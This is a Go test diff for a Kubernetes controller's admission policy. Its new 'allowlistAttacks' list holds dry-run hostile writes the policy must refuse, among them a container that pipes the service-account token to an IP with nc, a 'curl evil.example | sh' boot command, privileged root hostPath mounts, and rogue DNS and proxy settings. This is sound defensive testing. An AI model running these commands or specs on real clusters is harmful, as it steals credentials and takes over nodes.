@@ -6,10 +6,12 @@ import (
 	"encoding/json"
 	"encoding/pem"
 	"fmt"
+	"maps"
 	"net/http"
 	"net/http/httptest"
 	"os"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"sync/atomic"
@@ -23,6 +25,7 @@ import (
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/apimachinery/pkg/runtime"
 	"k8s.io/apimachinery/pkg/runtime/schema"
 	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/client-go/dynamic"
@@ -35,6 +38,7 @@ import (
 	"github.com/eksa-metrics/eksa-metrics/internal/cli"
 	metricsv1alpha1 "github.com/eksa-metrics/eksa-metrics/pkg/apis/metrics/v1alpha1"
 	"github.com/eksa-metrics/eksa-metrics/pkg/kubeproxy"
+	"github.com/eksa-metrics/eksa-metrics/pkg/render"
 	"github.com/eksa-metrics/eksa-metrics/pkg/spec"
 	"github.com/eksa-metrics/eksa-metrics/pkg/templates"
 	"github.com/eksa-metrics/eksa-metrics/test/framework"
@@ -214,7 +218,9 @@ func TestControllerRefusesWhatItsAuthorsMayNotDo(t *testing.T) {
 	if _, err := as.CoreV1().Secrets("kube-system").Create(ctx, tokenSecret("clusterrole-aggregation-controller"), dry); !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) {
 		t.Errorf("the controller may mint a token of another ServiceAccount: %v", err)
 	}
-	if _, err := as.CoreV1().Secrets("kube-system").Create(ctx, tokenSecret(templates.SidecarSA), dry); err != nil {
+	sidecarToken := tokenSecret(templates.SidecarSA)
+	sidecarToken.Name = templates.SidecarTokenSecret
+	if _, err := as.CoreV1().Secrets("kube-system").Create(ctx, sidecarToken, dry); err != nil {
 		t.Errorf("the controller may not write the sidecar's token Secret: %v", err)
 	}
 	// A management Deployment it edits keeps its ServiceAccount.
@@ -295,7 +301,7 @@ func TestControllerTokenCannotTakeThePlatform(t *testing.T) {
 			d := proxyDaemonSet("registry.example/evil:1")
 			d.Spec.Template.Spec.HostPID = true
 			d.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{Privileged: ptr.To(true)}
-			d.Spec.Template.Spec.Volumes = []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}}
+			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}})
 			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, d, dry)
 			return err
 		}},
@@ -356,6 +362,9 @@ func TestControllerTokenCannotTakeThePlatform(t *testing.T) {
 			return patchExtraArgs(ctx, t, dyn, mgmt, "apiServer", "anonymous-auth", "true")
 		}},
 	}
+	for _, a := range allowlistAttacks(ctx, t, f, as, dyn) {
+		refused = append(refused, attempt(a))
+	}
 	for _, a := range refused {
 		err := a.do()
 		switch {
@@ -398,19 +407,191 @@ func TestControllerTokenCannotTakeThePlatform(t *testing.T) {
 	}
 }
 
+// allowlistAttacks are writes of the controller's own kinds, names and
+// images that do something else: each was admitted by a policy that named
+// what may not be done, and an allowlist refuses them.
+func allowlistAttacks(ctx context.Context, t *testing.T, f *fleet, as *kubernetes.Clientset, dyn dynamic.Interface) []struct {
+	name string
+	do   func() error
+} {
+	t.Helper()
+	dry := metav1.CreateOptions{DryRun: []string{metav1.DryRunAll}}
+	ours := map[string]string{templates.ManagedByLabel: templates.Prefix}
+	// Cluster API's manager as its manifests ship it, written by the admin.
+	capi := &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: "capi-controller-manager", Namespace: "capi-system"}, Spec: appsv1.DeploymentSpec{
+		Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"cluster.x-k8s.io/provider": "cluster-api"}},
+		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: map[string]string{"cluster.x-k8s.io/provider": "cluster-api"}}, Spec: corev1.PodSpec{ServiceAccountName: "capi-manager",
+			Containers: []corev1.Container{{Name: "manager", Image: "registry.k8s.io/cluster-api/cluster-api-controller:v1.13.2",
+				Args: []string{"--leader-elect", "--diagnostics-address=:8443", "--insecure-diagnostics=false"}}}}}}}
+	f.mgmt.ServiceAccount(t, "capi-system", "capi-manager")
+	f.mgmt.ServiceAccount(t, "eksa-packages-w1", "default")
+	if _, err := f.mgmt.Client.AppsV1().Deployments("capi-system").Create(ctx, capi, metav1.CreateOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	editCAPI := func(edit func(*corev1.PodSpec)) func() error {
+		return func() error {
+			d, err := as.AppsV1().Deployments("capi-system").Get(ctx, "capi-controller-manager", metav1.GetOptions{})
+			if err != nil {
+				return err
+			}
+			edit(&d.Spec.Template.Spec)
+			_, err = as.AppsV1().Deployments("capi-system").Update(ctx, d, metav1.UpdateOptions{DryRun: []string{metav1.DryRunAll}})
+			return err
+		}
+	}
+	proxyDS := func(edit func(*appsv1.DaemonSet)) func() error {
+		return func() error {
+			d := proxyDaemonSet(spec.DefaultHAProxyImage)
+			edit(d)
+			_, err := as.AppsV1().DaemonSets("kube-system").Create(ctx, d, dry)
+			return err
+		}
+	}
+	kcp := func(patch string) func() error {
+		return func() error {
+			_, err := dyn.Resource(kcpGVR(spec.CAPIv1beta2)).Namespace("eksa-system").Patch(ctx, "test", types.MergePatchType, []byte(patch),
+				metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+			return err
+		}
+	}
+	create := func(gvr schema.GroupVersionResource, ns string, obj map[string]any) func() error {
+		return func() error {
+			_, err := dyn.Resource(gvr).Namespace(ns).Create(ctx, &unstructured.Unstructured{Object: obj}, dry)
+			return err
+		}
+	}
+	md := func(name string) map[string]any {
+		return map[string]any{"name": name, "labels": map[string]any{templates.ManagedByLabel: templates.Prefix}}
+	}
+	return []struct {
+		name string
+		do   func() error
+	}{
+		{"a bootstrap token Secret with eksa-metrics' label", func() error {
+			_, err := as.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-abcdef", Labels: ours},
+				Type: corev1.SecretTypeBootstrapToken, StringData: map[string]string{"token-id": "abcdef", "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true"}}, dry)
+			return err
+		}},
+		{"an Opaque Secret of another name", func() error {
+			_, err := as.CoreV1().Secrets("kube-system").Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "bootstrap-token-abcdef", Labels: ours}}, dry)
+			return err
+		}},
+		{"a Service with externalIPs (CVE-2020-8554)", func() error {
+			_, err := as.CoreV1().Services("kube-system").Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "eksa-metrics-etcd", Labels: ours},
+				Spec: corev1.ServiceSpec{Ports: []corev1.ServicePort{{Port: 443}}, ExternalIPs: []string{"203.0.113.1"}}}, dry)
+			return err
+		}},
+		{"a LoadBalancer Service", func() error {
+			_, err := as.CoreV1().Services("kube-system").Create(ctx, &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "eksa-metrics-etcd", Labels: ours},
+				Spec: corev1.ServiceSpec{Type: corev1.ServiceTypeLoadBalancer, Ports: []corev1.ServicePort{{Port: 443}}}}, dry)
+			return err
+		}},
+		{"the proxy DaemonSet as root", proxyDS(func(d *appsv1.DaemonSet) {
+			d.Spec.Template.Spec.Containers[0].SecurityContext.RunAsUser = ptr.To[int64](0)
+		})},
+		{"the proxy DaemonSet with privilege escalation", proxyDS(func(d *appsv1.DaemonSet) {
+			d.Spec.Template.Spec.Containers[0].SecurityContext.AllowPrivilegeEscalation = ptr.To(true)
+		})},
+		{"the proxy DaemonSet with the default capabilities", proxyDS(func(d *appsv1.DaemonSet) { d.Spec.Template.Spec.Containers[0].SecurityContext.Capabilities = nil })},
+		{"the proxy DaemonSet with seccomp Unconfined", proxyDS(func(d *appsv1.DaemonSet) {
+			d.Spec.Template.Spec.SecurityContext.SeccompProfile = &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeUnconfined}
+		})},
+		{"a shell in the allowed HAProxy image", proxyDS(func(d *appsv1.DaemonSet) {
+			d.Spec.Template.Spec.Containers[0].Args = nil
+			d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 203.0.113.1 80"}
+		})},
+		{"the proxy DaemonSet on host port 53", proxyDS(func(d *appsv1.DaemonSet) {
+			d.Spec.Template.Spec.Containers[0].Ports = []corev1.ContainerPort{{ContainerPort: 53, HostPort: 53, Protocol: corev1.ProtocolUDP}}
+		})},
+		{"the proxy DaemonSet mounting a kube-system Secret", proxyDS(func(d *appsv1.DaemonSet) {
+			d.Spec.Template.Spec.Volumes = append(d.Spec.Template.Spec.Volumes, corev1.Volume{Name: "x", VolumeSource: corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "bootstrap-token-abcdef"}}})
+		})},
+		{"the proxy DaemonSet with the pod's token automounted", proxyDS(func(d *appsv1.DaemonSet) { d.Spec.Template.Spec.AutomountServiceAccountToken = nil })},
+		{"a kube-rbac-proxy sidecar in capi-controller-manager that is a shell", editCAPI(func(p *corev1.PodSpec) {
+			p.Containers = append(p.Containers, corev1.Container{Name: templates.SidecarName, Image: spec.DefaultKubeRBACProxyImage, Command: []string{"/bin/sh", "-c", "sleep infinity"}})
+		})},
+		{"a postStart hook on Cluster API's manager", editCAPI(func(p *corev1.PodSpec) {
+			p.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "id"}}}}
+		})},
+		{"an exec liveness probe on Cluster API's manager", editCAPI(func(p *corev1.PodSpec) {
+			p.Containers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"/bin/sh", "-c", "id"}}}}
+		})},
+		{"insecure diagnostics on every address for Cluster API's manager", editCAPI(func(p *corev1.PodSpec) {
+			p.Containers[0].Args = []string{"--leader-elect", "--insecure-diagnostics=true", "--diagnostics-address=0.0.0.0:8080"}
+		})},
+		{"Cluster API's manager without leader election", editCAPI(func(p *corev1.PodSpec) { p.Containers[0].Args = p.Containers[0].Args[1:] })},
+		{"a resolver of the token's choice for Cluster API's pods", editCAPI(func(p *corev1.PodSpec) {
+			p.DNSPolicy = corev1.DNSNone
+			p.DNSConfig = &corev1.PodDNSConfig{Nameservers: []string{"203.0.113.53"}}
+		})},
+		{"hostAliases for Cluster API's pods", editCAPI(func(p *corev1.PodSpec) {
+			p.HostAliases = []corev1.HostAlias{{IP: "203.0.113.1", Hostnames: []string{"vcenter.example"}}}
+		})},
+		{"Cluster API's pods as root", editCAPI(func(p *corev1.PodSpec) { p.SecurityContext = &corev1.PodSecurityContext{RunAsUser: ptr.To[int64](0)} })},
+		{"bootCommands on the KubeadmControlPlane", kcp(`{"spec":{"kubeadmConfigSpec":{"bootCommands":["curl -s https://evil.example/x | sh"]}}}`)},
+		{"a rollout of every control-plane machine", kcp(`{"spec":{"rollout":{"after":"2026-12-07T00:00:00Z"}}}`)},
+		{"an HTTPS_PROXY for the API server", kcp(`{"spec":{"kubeadmConfigSpec":{"clusterConfiguration":{"apiServer":{"extraEnvs":[{"name":"HTTPS_PROXY","value":"http://203.0.113.1:3128"}]}}}}}`)},
+		{"etcd serving certificate names", kcp(`{"spec":{"kubeadmConfigSpec":{"clusterConfiguration":{"etcd":{"local":{"serverCertSANs":["evil.example"]}}}}}}`)},
+		{"AllAlpha for the API server", func() error {
+			return patchExtraArgs(ctx, t, dyn, f.mgmt, "apiServer", "feature-gates", "AllAlpha=true")
+		}},
+		{"kube-controller-manager authorizing with a file of the token's choice", func() error {
+			return patchExtraArgs(ctx, t, dyn, f.mgmt, "controllerManager", "authorization-kubeconfig", "/tmp/evil.conf")
+		}},
+		{"kube-controller-manager signing kubelet serving certificates with a key of the token's choice", func() error {
+			return patchExtraArgs(ctx, t, dyn, f.mgmt, "controllerManager", "cluster-signing-kubelet-client-key-file", "/tmp/evil.key")
+		}},
+		{"a prometheus Package whose chart values add a privileged container", create(packageGVR, "eksa-packages-w1", map[string]any{
+			"apiVersion": "packages.eks.amazonaws.com/v1alpha1", "kind": "Package", "metadata": md("prometheus"),
+			"spec": map[string]any{"packageName": "prometheus", "targetNamespace": "monitoring",
+				"config": "scrapeConfigs: {}\nserver:\n  extraVolumes:\n  - name: root\n    hostPath: {path: /}\n  securityContext: {privileged: true}\n"}})},
+		{"a CA Certificate from a ClusterIssuer named like eksa-metrics' Issuer", create(certificateGVR, "eksa-system", map[string]any{
+			"apiVersion": "cert-manager.io/v1", "kind": "Certificate", "metadata": md("probe"),
+			"spec": map[string]any{"isCA": true, "secretName": "probe", "commonName": "kubernetes", "dnsNames": []any{"kubernetes.default.svc"},
+				"issuerRef": map[string]any{"group": "cert-manager.io", "kind": "ClusterIssuer", "name": templates.CAIssuer}}})},
+		{"a serving Certificate for the API server's name", create(certificateGVR, "kube-system", map[string]any{
+			"apiVersion": "cert-manager.io/v1", "kind": "Certificate", "metadata": md("eksa-metrics-etcd-serving"),
+			"spec": map[string]any{"secretName": "eksa-metrics-etcd-serving", "dnsNames": []any{"kubernetes.default.svc"},
+				"issuerRef": templates.IssuerRef(templates.CAIssuer)}})},
+		{"a ClusterIssuer", func() error {
+			_, err := dyn.Resource(schema.GroupVersionResource{Group: "cert-manager.io", Version: "v1", Resource: "clusterissuers"}).Create(ctx, &unstructured.Unstructured{Object: map[string]any{
+				"apiVersion": "cert-manager.io/v1", "kind": "ClusterIssuer", "metadata": md(templates.SelfSignedIssuer), "spec": map[string]any{"selfSigned": map[string]any{}}}}, dry)
+			return err
+		}},
+	}
+}
+
 var (
 	packageGVR = schema.GroupVersionResource{Group: "packages.eks.amazonaws.com", Version: "v1alpha1", Resource: "packages"}
 	issuerGVR  = schema.GroupVersionResource{Group: "cert-manager.io", Version: "v1", Resource: "issuers"}
 )
 
-// proxyDaemonSet is the kube-proxy proxy DaemonSet as the controller writes
-// it, in the parts the admission policy reads.
+// proxyDaemonSet is the kube-proxy proxy DaemonSet as the renderer writes
+// it for examples/vsphere-management.yaml, with its container's image.
 func proxyDaemonSet(image string) *appsv1.DaemonSet {
-	l := map[string]string{"app": templates.NodeDS}
-	return &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Name: templates.NodeDS, Namespace: "kube-system", Labels: map[string]string{templates.ManagedByLabel: templates.Prefix}},
-		Spec: appsv1.DaemonSetSpec{Selector: &metav1.LabelSelector{MatchLabels: l},
-			Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: l}, Spec: corev1.PodSpec{ServiceAccountName: templates.ProxySA, HostNetwork: true,
-				Containers: []corev1.Container{{Name: "kube-rbac-proxy", Image: image, SecurityContext: &corev1.SecurityContext{AllowPrivilegeEscalation: ptr.To(false)}}}}}}}
+	raw, err := os.ReadFile("../../examples/vsphere-management.yaml")
+	if err != nil {
+		panic(err)
+	}
+	file, err := spec.Load("vsphere-management.yaml", bytes.NewReader(raw))
+	if err != nil {
+		panic(err)
+	}
+	r, err := render.RenderFile(file, spec.Options{})
+	if err != nil {
+		panic(err)
+	}
+	for _, o := range r.Objects {
+		if o.Kind() == "DaemonSet" && o.Name() == templates.NodeDS {
+			var d appsv1.DaemonSet
+			if err := runtime.DefaultUnstructuredConverter.FromUnstructured(o.Object, &d); err != nil {
+				panic(err)
+			}
+			d.Spec.Template.Spec.Containers[0].Image = image
+			return &d
+		}
+	}
+	panic("the example renders no " + templates.NodeDS)
 }
 
 // patchExtraArgs adds (or sets) one extraArgs item of a component of the
@@ -769,4 +950,97 @@ func TestControllerWritesNothingWithoutItsAdmissionPolicy(t *testing.T) {
 		}
 		return nil
 	})
+}
+
+// Every object the renderer produces for the management cluster's own spec
+// (examples/vsphere-management.yaml with its scraper, every stack, every
+// certificate issuer) is admitted by the shipped policy when the controller's token
+// applies it as the controller does (server-side apply, force): the
+// allowlist admits the renderer's shape, the API server's defaults
+// included. The objects eksa-metrics edits rather than creates (the
+// KubeadmControlPlane, management Deployments, kube-proxy's) are applied by
+// the controller itself in TestControllerAppliesTheManagementSetup.
+func TestControllerPolicyAdmitsEveryRender(t *testing.T) {
+	ctx := context.Background()
+	f := newFleet(t)
+	mgmt := f.mgmt
+	installPackageCRD(t, mgmt)
+	mgmt.InstallCRDDir(t, "prometheus-operator")
+	cfg, err := clientcmd.BuildConfigFromFlags("", f.controllerKubeconfig)
+	if err != nil {
+		t.Fatal(err)
+	}
+	as := dynamic.NewForConfigOrDie(cfg)
+	mapper := mgmt.Mapper()
+	raw, err := os.ReadFile("../../examples/vsphere-management.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	scrapeConfig := regexp.MustCompile(`(?m)^  scrapeConfig:\n(?:    .*\n)+`)
+	tlsBlock := regexp.MustCompile(`(?m)^  tls:\n(?:    .*\n)+`)
+	base := string(raw)
+	if !scrapeConfig.MatchString(base) || !tlsBlock.MatchString(base) {
+		t.Fatal("the example has no scrapeConfig or tls section")
+	}
+	kinds := map[string]int{}
+	namespaces := map[string]bool{}
+	for _, stack := range slices.Sorted(maps.Keys(spec.Stacks)) {
+		// Every stack with the default issuer; every issuer with the
+		// default stack (the issuer changes what is rendered in the same
+		// way for every stack).
+		issuers := []string{metricsv1alpha1.CertificatesEKSAMetrics}
+		if stack == metricsv1alpha1.StackGeneric {
+			issuers = []string{metricsv1alpha1.CertificatesNone, metricsv1alpha1.CertificatesEKSAMetrics, metricsv1alpha1.CertificatesCertManager}
+		} else if stack == metricsv1alpha1.StackEKSAnywhere {
+			issuers = []string{metricsv1alpha1.CertificatesNone}
+		}
+		for _, issuer := range issuers {
+			sc := "  scrapeConfig:\n    stack: " + string(stack) + "\n    namespace: monitoring\n"
+			if spec.Stacks[stack].ReleaseAllowed {
+				sc += "    release: r1\n"
+			}
+			text := scrapeConfig.ReplaceAllString(base, sc)
+			text = tlsBlock.ReplaceAllString(text, "  tls:\n    minVersion: VersionTLS13\n    certificates: "+issuer+"\n")
+			file, err := spec.Load("vsphere-management.yaml", strings.NewReader(text))
+			if err != nil {
+				t.Fatalf("stack %q, certificates %s: %v", stack, issuer, err)
+			}
+			r, err := render.RenderFile(file, spec.Options{})
+			if err != nil {
+				t.Logf("stack %q, certificates %s: not rendered: %v", stack, issuer, err)
+				continue
+			}
+			for _, o := range r.Objects {
+				if !o.Owned() {
+					continue // the KubeadmControlPlane: an edit
+				}
+				gvk := schema.FromAPIVersionAndKind(o.Object["apiVersion"].(string), o.Kind())
+				m, err := mapper.RESTMapping(gvk.GroupKind(), gvk.Version)
+				if err != nil {
+					t.Fatalf("%s: %v", o, err)
+				}
+				ri := dynamic.ResourceInterface(as.Resource(m.Resource))
+				if ns := o.Namespace(); ns != "" {
+					if !namespaces[ns] {
+						mgmt.ServiceAccount(t, ns, "default") // the namespace exists: the controller creates none
+						namespaces[ns] = true
+					}
+					ri = as.Resource(m.Resource).Namespace(ns)
+				}
+				body, _ := json.Marshal(o.Object)
+				if _, err := ri.Patch(ctx, o.Name(), types.ApplyPatchType, body, metav1.PatchOptions{FieldManager: "eksa-metrics", Force: ptr.To(true)}); err != nil {
+					t.Errorf("stack %q, certificates %s: %s refused to the controller: %v", stack, issuer, o, err)
+					continue
+				}
+				kinds[o.Kind()]++
+			}
+		}
+	}
+	t.Logf("admitted, by kind: %v", kinds)
+	// The renders cover what the policy holds (the test can fail).
+	for _, kind := range []string{"DaemonSet", "Service", "Secret", "ConfigMap", "ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role", "RoleBinding", "Certificate", "Issuer", "Package", "ServiceMonitor"} {
+		if kinds[kind] == 0 {
+			t.Errorf("no render applied a %s", kind)
+		}
+	}
 }
